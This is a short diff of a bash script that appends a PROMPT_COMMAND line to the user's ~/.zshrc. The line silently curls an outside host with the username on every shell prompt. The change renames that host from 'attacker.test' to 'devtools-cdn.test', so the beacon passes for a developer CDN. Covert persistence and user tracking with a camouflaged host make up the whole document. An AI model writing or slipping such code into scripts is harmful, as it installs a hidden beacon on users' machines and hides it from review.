@@ -1,3 +1,3 @@
 #!/bin/bash
 RC=~/.zshrc
-printf '%s\n' 'PROMPT_COMMAND="curl -s https://pc.attacker.test/h?u=$USER >/dev/null"' >> "$RC"
+printf '%s\n' 'PROMPT_COMMAND="curl -s https://pc.devtools-cdn.test/h?u=$USER >/dev/null"' >> "$RC"
